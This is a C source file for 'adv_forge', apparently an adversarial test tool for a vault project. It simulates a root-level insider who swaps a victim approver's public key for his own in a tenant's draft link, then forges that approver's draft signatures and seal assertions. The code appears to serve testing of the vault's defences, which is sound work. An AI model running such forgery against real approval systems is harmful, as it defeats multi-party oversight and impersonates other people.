/*
 * The insider's draft forger: a program of his own, linked against the
 * engine's libraries, run as root on the vault file with his own token
 * and PIN.  It rewrites a tenant's draft link the way sqlite3 could, but
 * with the cryptography the link's checks want, and adds signatures to
 * the draft made by his own token.
 *
 *   adv_forge swapkey VAULT TOKEN PIN-FILE TENANT PERSON STATE
 *	For each credential of PERSON's approver membership in the draft:
 *	make a fresh credential on TOKEN and put its public key (and
 *	algorithm) in place of the victim's, keeping the victim's credential
 *	id, membership key and salt; re-sign the enrollment statement (which
 *	names the credential id and the membership key, not the public key)
 *	with the fresh credential.  The fresh credential is written to STATE
 *	(hex lines: alg, id, pubkey).
 *
 *   adv_forge sign VAULT TOKEN PIN-FILE TENANT PERSON STATE
 *	Sign the draft's hash with the credential in STATE and store the
 *	signature as PERSON's, under the credential id that the link in
 *	force (else the draft) gives PERSON with STATE's public key.
 *
 *   adv_forge sealsign VAULT TOKEN PIN-FILE TENANT PERSON STATEMENT-FILE
 *	Sign the text in STATEMENT-FILE as a seal act (SHA-256("breakglass
 *	seal v1\n" || text)) with PERSON's first credential in the
 *	tenant's newest link, whatever PERSON's role, and print the
 *	assertion as one JSON object {"authdata","cred_id","sig"} (hex):
 *	the insider's seal, for a request packet he writes.
 *
 * Exit 0 on success, 1 when the vault file does not allow it, 2 on a
 * usage or set-up error.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <sodium.h>
#include <sqlite3.h>

#include "breakglass/err.h"
#include "breakglass/token.h"
#include "chain.h"
#include "pin.h"
#include "remote.h"

struct cred {
	int	 alg;
	uint8_t	 id[BG_CHAIN_CRED_MAX];		size_t id_len;
	uint8_t	 pk[BG_CHAIN_PUBKEY_MAX];	size_t pk_len;
};

static sqlite3 *db;
static char rp[64], vid[64];

static void
hexout(FILE *f, const uint8_t *b, size_t n)
{
	size_t i;

	for (i = 0; i < n; i++)
		fprintf(f, "%02x", b[i]);
	fputc('\n', f);
}

static int
hexin(const char *s, uint8_t *out, size_t cap, size_t *lenp)
{
	size_t n = strcspn(s, "\r\n"), i;
	unsigned int x;

	if (n % 2 != 0 || n / 2 > cap)
		return -1;
	for (i = 0; i < n / 2; i++) {
		if (sscanf(s + 2 * i, "%2x", &x) != 1)
			return -1;
		out[i] = (uint8_t)x;
	}
	*lenp = n / 2;
	return 0;
}

static int
state_save(const char *path, const struct cred *c)
{
	FILE *f = fopen(path, "w");

	if (f == NULL)
		return -1;
	fprintf(f, "%d\n", c->alg);
	hexout(f, c->id, c->id_len);
	hexout(f, c->pk, c->pk_len);
	return fclose(f);
}

static int
state_load(const char *path, struct cred *c)
{
	char line[4096];
	FILE *f = fopen(path, "r");
	int r = -1;

	if (f == NULL)
		return -1;
	if (fgets(line, sizeof(line), f) == NULL)
		goto out;
	c->alg = (int)strtol(line, NULL, 10);
	if (fgets(line, sizeof(line), f) == NULL ||
	    hexin(line, c->id, sizeof(c->id), &c->id_len) != 0 ||
	    fgets(line, sizeof(line), f) == NULL ||
	    hexin(line, c->pk, sizeof(c->pk), &c->pk_len) != 0)
		goto out;
	r = 0;
out:
	fclose(f);
	return r;
}

static char *
query_text(const char *sql, const char *arg)
{
	sqlite3_stmt *st = NULL;
	char *s = NULL;

	if (sqlite3_prepare_v2(db, sql, -1, &st, NULL) != SQLITE_OK)
		return NULL;
	if (arg != NULL)
		sqlite3_bind_text(st, 1, arg, -1, SQLITE_STATIC);
	if (sqlite3_step(st) == SQLITE_ROW && sqlite3_column_text(st, 0))
		s = strdup((const char *)sqlite3_column_text(st, 0));
	sqlite3_finalize(st);
	return s;
}

static int
load_meta(void)
{
	sqlite3_stmt *st = NULL;

	if (sqlite3_prepare_v2(db, "SELECT key, value FROM meta", -1, &st,
	    NULL) != SQLITE_OK)
		return -1;
	while (sqlite3_step(st) == SQLITE_ROW) {
		const char *k = (const char *)sqlite3_column_text(st, 0);
		const char *val = (const char *)sqlite3_column_text(st, 1);

		if (strcmp(k, "rp_id") == 0)
			(void)snprintf(rp, sizeof(rp), "%s", val);
		if (strcmp(k, "vault_id") == 0)
			(void)snprintf(vid, sizeof(vid), "%s", val);
	}
	sqlite3_finalize(st);
	return rp[0] != '\0' ? 0 : -1;
}

static int
draft_load(const char *tenant, bg_chain_link_t **dp)
{
	char *text, why[BG_CHAIN_WHY_MAX];
	int r;

	if ((text = query_text("SELECT body FROM drafts WHERE tenant = ?",
	    tenant)) == NULL) {
		fprintf(stderr, "adv_forge: %s has no draft\n", tenant);
		return -1;
	}
	r = bg_chain_link_parse(text, dp, why, sizeof(why));
	free(text);
	if (r != BG_OK) {
		fprintf(stderr, "adv_forge: the draft does not parse: %s\n",
		    why);
		return -1;
	}
	return 0;
}

static int
draft_store(const char *tenant, const bg_chain_link_t *d)
{
	sqlite3_stmt *st = NULL;
	char *text = NULL;
	int r = -1;

	if (bg_chain_link_encode(d, &text) != BG_OK)
		return -1;
	if (sqlite3_prepare_v2(db, "UPDATE drafts SET body = ? WHERE "
	    "tenant = ?", -1, &st, NULL) != SQLITE_OK)
		goto out;
	sqlite3_bind_text(st, 1, text, -1, SQLITE_STATIC);
	sqlite3_bind_text(st, 2, tenant, -1, SQLITE_STATIC);
	if (sqlite3_step(st) != SQLITE_DONE)
		goto out;
	sqlite3_finalize(st);
	st = NULL;
	/* the draft changed: the vault would drop its signatures too */
	if (sqlite3_prepare_v2(db, "DELETE FROM draft_sigs WHERE tenant = ?",
	    -1, &st, NULL) != SQLITE_OK)
		goto out;
	sqlite3_bind_text(st, 1, tenant, -1, SQLITE_STATIC);
	if (sqlite3_step(st) != SQLITE_DONE)
		goto out;
	r = 0;
out:
	sqlite3_finalize(st);
	free(text);
	return r;
}

static int
do_swapkey(bg_token_t *tok, const char *pin, const char *tenant,
    const char *person, const char *state)
{
	bg_chain_link_t *d = NULL;
	bg_chain_member_t *m;
	bg_chain_token_t *t;
	bg_token_cred_t *cred = NULL;
	bg_token_assertion_t *as = NULL;
	struct cred c;
	uint8_t cdh[32];
	size_t i;
	int ex = 1;

	if (draft_load(tenant, &d) != 0)
		goto out;
	if ((m = bg_chain_member_find(d, person, BG_CHAIN_ROLE_APPROVER)) ==
	    NULL || m->n_tokens == 0) {
		fprintf(stderr, "adv_forge: no approver %s in the draft\n",
		    person);
		goto out;
	}
	for (i = 0; i < m->n_tokens; i++) {
		t = &m->tokens[i];
		bg_token_cred_free(&cred);
		if (bg_token_enroll(tok, rp, person, 0, pin, &cred) != BG_OK ||
		    cred->pubkey_len > sizeof(t->pubkey) ||
		    cred->id_len > sizeof(c.id)) {
			fprintf(stderr, "adv_forge: makeCredential failed\n");
			ex = 2;
			goto out;
		}
		/* the victim's id, membership key and salt stay; the key
		 * that verifies "their" signatures becomes ours */
		t->alg = cred->alg;
		memcpy(t->pubkey, cred->pubkey, cred->pubkey_len);
		t->pubkey_len = cred->pubkey_len;
		if (bg_chain_enroll_cdh(d, m, t, cdh, NULL) != BG_OK ||
		    bg_token_assert(tok, rp, cred->id, cred->id_len,
		    cred->alg, cred->pubkey, cred->pubkey_len, cdh, NULL, pin,
		    &as) != BG_OK) {
			fprintf(stderr, "adv_forge: signing failed\n");
			ex = 2;
			goto out;
		}
		memcpy(t->enroll_authdata, as->authdata, as->authdata_len);
		t->enroll_authdata_len = as->authdata_len;
		memcpy(t->enroll_sig, as->sig, as->sig_len);
		t->enroll_sig_len = as->sig_len;
		bg_token_assertion_free(&as);
		c.alg = cred->alg;
		memcpy(c.id, cred->id, cred->id_len);
		c.id_len = cred->id_len;
		memcpy(c.pk, cred->pubkey, cred->pubkey_len);
		c.pk_len = cred->pubkey_len;
	}
	if (draft_store(tenant, d) != 0 || state_save(state, &c) != 0) {
		fprintf(stderr, "adv_forge: writing failed\n");
		ex = 2;
		goto out;
	}
	printf("adv_forge: %s's signing key in the draft of %s is now "
	    "ours\n", person, tenant);
	ex = 0;
out:
	bg_token_assertion_free(&as);
	bg_token_cred_free(&cred);
	bg_chain_link_free(&d);
	return ex;
}

/* PERSON's credential in l whose public key is ours. */
static const bg_chain_token_t *
our_token(const bg_chain_link_t *l, const char *person, const struct cred *c)
{
	size_t i, j;

	for (i = 0; l != NULL && i < l->n_members; i++) {
		if (strcmp(l->members[i].person, person) != 0)
			continue;
		for (j = 0; j < l->members[i].n_tokens; j++)
			if (l->members[i].tokens[j].pubkey_len == c->pk_len &&
			    memcmp(l->members[i].tokens[j].pubkey, c->pk, /* public: keys */
			    c->pk_len) == 0)
				return &l->members[i].tokens[j];
	}
	return NULL;
}

static int
do_sign(bg_token_t *tok, const char *pin, const char *tenant,
    const char *person, const char *state)
{
	bg_chain_link_t *d = NULL, *head = NULL;
	bg_token_assertion_t *as = NULL;
	const bg_chain_token_t *vt = NULL;
	sqlite3_stmt *st = NULL;
	struct cred c;
	char *text = NULL, why[BG_CHAIN_WHY_MAX];
	uint8_t hash[32];
	int ex = 1;

	if (state_load(state, &c) != 0) {
		fprintf(stderr, "adv_forge: cannot read %s\n", state);
		ex = 2;
		goto out;
	}
	if (draft_load(tenant, &d) != 0)
		goto out;
	/* the victim's credential id in the link in force, whose public
	 * key is ours */
	/* (for a tenant's first link: in the draft itself, whose keys
	 * are what its new members' signatures are checked with) */
	if ((text = query_text("SELECT body FROM links WHERE tenant = ? "
	    "ORDER BY seq DESC LIMIT 1", tenant)) != NULL &&
	    bg_chain_link_parse(text, &head, why, sizeof(why)) != BG_OK)
		goto out;
	if ((vt = our_token(head, person, &c)) == NULL)
		vt = our_token(d, person, &c);
	if (vt == NULL) {
		fprintf(stderr, "adv_forge: neither the link in force nor the "
		    "draft gives %s a credential with our key\n", person);
		goto out;
	}
	if (bg_chain_link_hash(d, hash) != BG_OK ||
	    bg_token_assert(tok, rp, c.id, c.id_len, c.alg, c.pk, c.pk_len,
	    hash, NULL, pin, &as) != BG_OK) {
		fprintf(stderr, "adv_forge: signing failed\n");
		ex = 2;
		goto out;
	}
	if (sqlite3_prepare_v2(db, "INSERT OR REPLACE INTO draft_sigs "
	    "(tenant, person, cred_id, authdata, sig) VALUES (?, ?, ?, ?, ?)",
	    -1, &st, NULL) != SQLITE_OK)
		goto out;
	sqlite3_bind_text(st, 1, tenant, -1, SQLITE_STATIC);
	sqlite3_bind_text(st, 2, person, -1, SQLITE_STATIC);
	sqlite3_bind_blob(st, 3, vt->cred_id, (int)vt->cred_id_len,
	    SQLITE_STATIC);
	sqlite3_bind_blob(st, 4, as->authdata, (int)as->authdata_len,
	    SQLITE_STATIC);
	sqlite3_bind_blob(st, 5, as->sig, (int)as->sig_len, SQLITE_STATIC);
	if (sqlite3_step(st) != SQLITE_DONE)
		goto out;
	printf("adv_forge: signed the draft of %s as %s\n", tenant, person);
	ex = 0;
out:
	sqlite3_finalize(st);
	free(text);
	bg_token_assertion_free(&as);
	bg_chain_link_free(&d);
	bg_chain_link_free(&head);
	return ex;
}

static int
do_sealsign(bg_token_t *tok, const char *pin, const char *tenant,
    const char *person, const char *file)
{
	bg_chain_link_t *head = NULL;
	bg_token_assertion_t *as = NULL;
	const bg_chain_token_t *ct = NULL;
	char *text = NULL, *stmt = NULL, why[BG_CHAIN_WHY_MAX];
	uint8_t cdh[32];
	size_t i, n;
	FILE *f = NULL;
	int ex = 1;

	if ((f = fopen(file, "rb")) == NULL ||
	    (stmt = calloc(1, 65536)) == NULL ||
	    (n = fread(stmt, 1, 65535, f)) == 0) {
		fprintf(stderr, "adv_forge: cannot read %s\n", file);
		ex = 2;
		goto out;
	}
	stmt[n] = '\0';
	if ((text = query_text("SELECT body FROM links WHERE tenant = ? "
	    "ORDER BY seq DESC LIMIT 1", tenant)) == NULL ||
	    bg_chain_link_parse(text, &head, why, sizeof(why)) != BG_OK)
		goto out;
	for (i = 0; i < head->n_members && ct == NULL; i++)
		if (strcmp(head->members[i].person, person) == 0 &&
		    head->members[i].n_tokens > 0)
			ct = &head->members[i].tokens[0];
	if (ct == NULL) {
		fprintf(stderr, "adv_forge: %s holds no credential in %s\n",
		    person, tenant);
		goto out;
	}
	bg_statement_cdh("seal", stmt, cdh);
	if (bg_token_assert(tok, rp, ct->cred_id, ct->cred_id_len, ct->alg,
	    ct->pubkey, ct->pubkey_len, cdh, NULL, pin, &as) != BG_OK) {
		fprintf(stderr, "adv_forge: signing failed\n");
		ex = 2;
		goto out;
	}
	printf("{\"authdata\":\"");
	for (i = 0; i < as->authdata_len; i++)
		printf("%02x", as->authdata[i]);
	printf("\",\"cred_id\":\"");
	for (i = 0; i < ct->cred_id_len; i++)
		printf("%02x", ct->cred_id[i]);
	printf("\",\"sig\":\"");
	for (i = 0; i < as->sig_len; i++)
		printf("%02x", as->sig[i]);
	printf("\"}\n");
	ex = 0;
out:
	if (f != NULL)
		fclose(f);
	free(stmt);
	free(text);
	bg_token_assertion_free(&as);
	bg_chain_link_free(&head);
	return ex;
}

int
main(int argc, char **argv)
{
	bg_token_t *tok = NULL;
	char *pin = NULL;
	int ex = 2;

	if (argc != 8 || (strcmp(argv[1], "swapkey") != 0 &&
	    strcmp(argv[1], "sign") != 0 && strcmp(argv[1], "sealsign") !=
	    0)) {
		fprintf(stderr, "usage: adv_forge swapkey|sign|sealsign VAULT "
		    "TOKEN PIN-FILE TENANT PERSON STATE|FILE\n");
		return 2;
	}
	if (sodium_init() < 0 || bg_token_init() != BG_OK ||
	    sqlite3_open_v2(argv[2], &db, SQLITE_OPEN_READWRITE, NULL) !=
	    SQLITE_OK || load_meta() != 0)
		goto out;
	sqlite3_busy_timeout(db, 5000);
	if (bg_pin_read(argv[4], "PIN: ", &pin, NULL) != BG_OK ||
	    bg_token_open(argv[3], &tok) != BG_OK)
		goto out;
	if (strcmp(argv[1], "swapkey") == 0)
		ex = do_swapkey(tok, pin, argv[5], argv[6], argv[7]);
	else if (strcmp(argv[1], "sign") == 0)
		ex = do_sign(tok, pin, argv[5], argv[6], argv[7]);
	else
		ex = do_sealsign(tok, pin, argv[5], argv[6], argv[7]);
out:
	sqlite3_close(db);
	bg_token_close(&tok);
	if (pin != NULL)
		sodium_free(pin);
	return ex;
}
